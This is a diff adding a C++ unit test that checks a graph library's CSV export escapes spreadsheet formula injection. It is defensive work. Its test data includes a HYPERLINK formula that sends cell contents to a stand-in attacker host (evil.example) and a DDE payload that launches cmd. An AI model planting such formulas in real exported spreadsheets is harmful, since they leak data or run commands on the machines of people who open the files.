@@ -95,6 +95,45 @@ TEST_CASE("a hostile graph comes back from CSV as it was") {
   CheckComesBack(BuildHostile(builder));
 }
 
+TEST_CASE("nothing in a table is a formula, and what is stored comes back") {
+  GraphBuilder builder;
+  const std::vector<std::string> formulas = {"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
+                                             "+1+cmd|' /C calc'!A0",
+                                             "-2+3",
+                                             "@SUM(A1)",
+                                             "\t=1",
+                                             "\r=1",
+                                             "\n=1",
+                                             "'=1",
+                                             "''@x",
+                                             "-x"};
+  builder.Node(NodeKind::kArticle, "=1", {{"=header", "x"}});
+  for (size_t i = 0; i < formulas.size(); ++i) {
+    const std::string id = "n" + std::to_string(i);
+    builder.Node(NodeKind::kOutlet, id, {{"name", formulas[i]}});
+    builder.Edge("=1", EdgeKind::kCites, id, [&](EdgeAssertion& edge) {
+      edge.because = formulas[i];
+      edge.extra = {{"pages", false, "-5"}};
+    });
+  }
+  builder.Node(NodeKind::kOutlet, "plain",
+               {{"name", "-5.5e3"}, {"aliases", R"(["'t Hooft","'"])"}});
+  const std::string text = Export("csv", builder.Graph()).text;
+  INFO(text);
+  for (const std::string begins : {",", ",\""}) {
+    for (const char c : std::string("=+@\t\r\n")) {
+      CHECK(text.find(begins + c) == std::string::npos);
+    }
+  }
+  CHECK(text.find("\n'=1,x,,,article\n") != std::string::npos);  // ids too
+  CHECK(text.find("\n'=1,n0,cites,") != std::string::npos);
+  CHECK(text.find(",'-2+3,") != std::string::npos);
+  CHECK(text.find(",''=1,") != std::string::npos);
+  CHECK(text.find(",-5.5e3,") != std::string::npos);  // a number is none
+  CHECK(text.find(",'t Hooft;',") != std::string::npos);
+  CheckComesBack(builder.Graph());
+}
+
 TEST_CASE("fields with names that mean something in a header come back from CSV") {
   GraphBuilder builder;
   builder.Node(NodeKind::kArticle, "a",
